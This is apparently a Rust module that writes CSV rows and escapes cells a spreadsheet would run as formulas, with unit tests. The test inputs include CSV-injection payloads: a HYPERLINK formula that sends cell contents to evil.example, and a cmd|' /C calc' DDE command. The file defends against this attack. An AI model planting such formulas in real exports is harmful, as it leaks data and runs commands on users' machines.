//! Rows as CSV: RFC 4180, lines ended by CRLF. What is null and what is empty look the same.
//! A spreadsheet runs what looks like a formula, wherever the file came from; words that do are made harmless.

use std::borrow::Cow;

use crate::cell::Cell;

/// How CSV is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Csv {
    /// Begin with a byte order mark, by which Excel knows UTF-8.
    pub bom: bool,
    /// Leave the cells that a spreadsheet would run as formulas as they are.
    pub raw_cells: bool,
}

impl Csv {
    /// What a file begins with.
    pub fn opening(self, header: &[&str]) -> Vec<u8> {
        let mut out = if self.bom { "\u{feff}".as_bytes().to_vec() } else { Vec::new() };
        out.extend(self.rows([header.iter().map(|name| Cell::Text((*name).into())).collect()]));
        out
    }

    /// Rows of equal length.
    pub fn rows<'a>(self, rows: impl IntoIterator<Item = Vec<Cell<'a>>>) -> Vec<u8> {
        let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
        for row in rows {
            // Into memory, and every row has the same length: nothing here can fail.
            let _ = writer.write_record(row.into_iter().map(|cell| self.written(cell).into_owned().into_bytes()));
        }
        writer.into_inner().unwrap_or_default()
    }

    fn written(self, cell: Cell<'_>) -> Cow<'_, str> {
        match cell {
            Cell::Empty => "".into(),
            Cell::Number(number) => number.to_string().into(),
            Cell::Text(words) | Cell::Link(words) | Cell::Date(words) => {
                if !self.raw_cells && is_formula(&words) {
                    format!("'{words}").into()
                } else {
                    words
                }
            }
        }
    }
}

/// Whether a spreadsheet may run the words: they begin with a character that opens a formula, or with white space before one, and
/// are no number. After OWASP, "CSV Injection", <https://owasp.org/www-community/attacks/CSV_Injection>.
fn is_formula(words: &str) -> bool {
    const OPENING: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
    let begins = words.trim_start();
    let is_number = || words.parse::<f64>().is_ok_and(f64::is_finite);
    words.starts_with(['\t', '\r', '\n']) || (begins.starts_with(OPENING) && !is_number())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_is_made_harmless() {
        for (words, written) in [
            ("=1+1", "'=1+1"),
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"اضغط\"\")\""),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-5 درجات هذا المساء", "'-5 درجات هذا المساء"),
            ("- بند", "'- بند"),
            ("  =1+1", "'  =1+1"),
            ("\u{a0}@x", "'\u{a0}@x"),
            ("\t=1", "'\t=1"),
            ("\tنعم", "'\tنعم"),
            ("\rنعم", "\"'\rنعم\""),
            ("\n=1+1", "\"'\n=1+1\""),
            ("＝1+1", "'＝1+1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠x", "'＠x"),
            ("\u{200f}=1+1", "'=1+1"),
            // Numbers are numbers, and words are words.
            ("-5", "-5"),
            ("+12.5", "+12.5"),
            ("-1e3", "-1e3"),
            ("-inf", "'-inf"),
            ("١-٢", "١-٢"),
            ("نعم = لا", "نعم = لا"),
            ("'=1", "'=1"),
            ("", "\"\""),
        ] {
            let line = |csv: Csv| String::from_utf8(csv.rows([vec![Cell::text(words)]])).unwrap();
            assert_eq!(line(Csv::default()), format!("{written}\r\n"), "{words:?}");
            let raw = line(Csv { raw_cells: true, ..Csv::default() });
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(raw.as_bytes());
            assert_eq!(reader.records().next().unwrap().unwrap()[0], *rawi_text::visible(words), "{words:?}");
        }
    }

    #[test]
    fn addresses_and_dates_are_words_too() {
        let row = vec![Cell::link("=1+1"), Cell::Date("@أمس".into()), Cell::Number(-0.5), Cell::Empty];
        assert_eq!(Csv::default().rows([row]), "'=1+1,'@أمس,-0.5,\r\n".as_bytes());
    }

    #[test]
    fn a_byte_order_mark_comes_first_and_once() {
        let csv = Csv { bom: true, ..Csv::default() };
        assert_eq!(csv.opening(&["id", "=x"]), "\u{feff}id,'=x\r\n".as_bytes());
        assert_eq!(csv.rows([vec![Cell::text("a"), Cell::Empty]]), b"a,\r\n");
    }
}
